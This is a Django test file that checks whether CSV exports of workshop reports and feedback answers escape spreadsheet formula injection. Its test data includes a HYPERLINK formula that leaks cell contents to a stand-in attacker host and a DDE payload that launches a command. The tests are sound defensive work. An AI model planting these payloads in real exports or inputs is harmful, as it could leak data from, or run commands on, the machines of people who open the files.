"""Every CSV export is safe to open in a spreadsheet: text anybody could
write never runs as a formula."""

import datetime
from types import SimpleNamespace

from django.contrib.auth.models import User
from django.test import Client

import pytest

from courses.reports import summary
from courses.reports.models import WorkshopReport
from courses.reports.spreadsheets import safe_cell

from .test_admin import INDEX, read_csv
from .test_feedback import ANSWERS, feedback_page, submit

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Ver")'


def admin_client():
    client = Client()
    client.force_login(User.objects.create_superuser("jefa", password="x" * 14))
    return client


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_spreadsheets_run_are_made_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_values_are_kept():
    assert safe_cell("Taller en la sede") == "Taller en la sede"
    assert safe_cell(-3) == -3
    assert safe_cell("") == ""


def test_a_report_title_like_a_formula_is_exported_as_text():
    WorkshopReport.objects.create(
        held_on=datetime.date(2026, 3, 8), country="bo", participants=5, programme=ATTACK
    )
    rows = read_csv(admin_client().get(INDEX, {"export": "csv"}))
    assert rows[1][4] == "'" + ATTACK
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_feedback_answers_like_formulas_are_exported_as_text():
    answers = dict(ANSWERS, que_fue_lo_mas_util_para_ti="@SUM(1+1)*cmd|' /C calc'!A0")
    assert submit(answers, REMOTE_ADDR="192.0.2.50").status_code == 200
    url = f"/admin/forms/submissions/{feedback_page().pk}/"
    response = admin_client().get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = read_csv(response)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_summary_csv_is_safe_too():
    row = SimpleNamespace(year=2026, name="=1+1", workshops=1, participants=2, hours=None)
    assert "\r\n2026,'=1+1,1,2,\r\n" in summary.as_csv([row], "Módulo")
